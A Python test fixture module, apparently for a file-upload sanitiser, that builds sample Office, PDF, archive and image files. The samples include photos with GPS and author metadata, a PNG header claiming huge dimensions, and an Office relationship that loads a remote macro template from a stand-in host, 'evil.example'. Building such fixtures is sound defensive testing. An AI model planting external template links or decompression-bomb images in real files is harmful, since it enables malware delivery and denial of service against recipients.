"""Files people hand in, good and bad, made of bytes here."""

import io
import struct
import zipfile
import zlib

from PIL import Image, PngImagePlugin

CONTENT_TYPES = "[Content_Types].xml"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def workbook() -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["Name", "Telefon"])
    book.active.append(["Sportverein (erfunden)", "05264 123"])
    file = io.BytesIO()
    book.save(file)
    return file.getvalue()


def document() -> bytes:
    from docx import Document

    paper = Document()
    paper.add_paragraph("Guten Tag")
    file = io.BytesIO()
    paper.save(file)
    return file.getvalue()


def packed(entries: dict[str, str | bytes], *, stored: bool = False) -> bytes:
    file = io.BytesIO()
    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(file, "w", method) as archive:
        for name, text in entries.items():
            archive.writestr(name, text)
    return file.getvalue()


def with_entries(archive: bytes, entries: dict[str, str | bytes]) -> bytes:
    """An archive with some entries added or replaced."""
    with zipfile.ZipFile(io.BytesIO(archive)) as before:
        old = {name: before.read(name) for name in before.namelist()}
    return packed({**old, **entries})


def open_table() -> bytes:
    return packed(
        {
            "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
            "content.xml": '<?xml version="1.0" encoding="UTF-8"?><office:document-content/>',
        },
        stored=True,
    )


def relation(kind: str, target: str = "https://evil.example/a.dotm") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships>'
        f'<Relationship Id="r1" Type="{REL}/{kind}" Target="{target}" TargetMode="External"/>'
        "</Relationships>"
    )


def pdf(extra: bytes = b"", stream: bytes = b"BT (Guten Tag) Tj ET", head: bytes = b"") -> bytes:
    inside = zlib.compress(stream)
    return (
        b"%PDF-1.7\n" + head + b"1 0 obj\n<< /Type /Catalog " + extra + b" >>\nendobj\n"
        b"2 0 obj\n<< /Filter /FlateDecode /Length "
        + str(len(inside)).encode()
        + b" >>\nstream\n"
        + inside
        + b"\nendstream\nendobj\ntrailer << /Root 1 0 R >>\nstartxref\n9\n%%EOF\n"
    )


def photo(*, size: tuple[int, int] = (60, 40), form: str = "JPEG", turned: bool = False) -> bytes:
    """A picture that knows where it was taken, by which camera, and what somebody said of it."""
    picture = Image.new("RGB", size, (30, 90, 60))
    picture.paste((200, 30, 30), (0, 0, size[0] // 2, size[1]))
    exif = Image.Exif()
    exif[0x0110] = "Kamera von Frau Beispiel"
    exif[0x0112] = 6 if turned else 1
    place = exif.get_ifd(0x8825)
    place[1], place[2] = "N", (51.0, 58.0, 30.0)
    place[3], place[4] = "E", (9.0, 0.0, 15.0)
    file = io.BytesIO()
    if form == "JPEG":
        picture.save(file, form, exif=exif, comment=b"Haus von Anna", icc_profile=b"GEHEIMPROFIL")
    else:
        words = PngImagePlugin.PngInfo()
        words.add_text("Author", "Anna Beispiel")
        words.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>Haus von Anna</x:xmpmeta>")
        picture.save(file, form, exif=exif, pnginfo=words)
    return file.getvalue()


def png_of_size(width: int, height: int) -> bytes:
    """The head of a huge picture, and next to nothing behind it."""

    def chunk(name: bytes, data: bytes) -> bytes:
        check = zlib.crc32(name + data)
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", check)

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 10_000))
        + chunk(b"IEND", b"")
    )
